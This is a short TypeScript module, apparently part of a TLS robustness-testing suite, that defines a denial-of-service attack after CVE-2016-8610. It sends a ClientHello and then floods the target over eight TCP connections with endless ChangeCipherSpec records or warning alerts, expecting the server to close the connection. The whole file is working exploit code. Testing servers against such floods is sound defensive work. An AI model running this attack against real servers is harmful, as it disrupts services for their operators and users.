// ChangeCipherSpec records behind a ClientHello, which TLS 1.3 lets pass (RFC 8446 section 5), and warnings.

import type { Attack } from '../attack.ts'
import { clientHello, record } from '../wire/client-hello.ts'
import { attackConnections } from '../wire/connections.ts'

const ALERT = record(21, Buffer.from([1, 90]))
const SPEC = record(20, Buffer.from([1]))
const PIECE = Buffer.concat(new Array<Buffer>(1_000).fill(SPEC))
const WARNINGS = Buffer.concat(new Array<Buffer>(1_000).fill(ALERT))

export const attack: Attack = {
  reference: 'CVE-2016-8610, empty messages of a handshake',
  does: 'sends ChangeCipherSpec records, or warnings, without end in a handshake',
  who: ['unknown'],
  answers: [],
  must: ['closed'],
  run: async (target, signal) => {
    const hello = await clientHello(target.host)
    let n = 0
    await attackConnections(target, signal, { connections: 8, transport: 'tcp' }, () => {
      const flood = n++ % 2 === 0 ? PIECE : WARNINGS
      const pieces = [hello]
      return { next: () => pieces.shift() ?? flood }
    })
  },
}
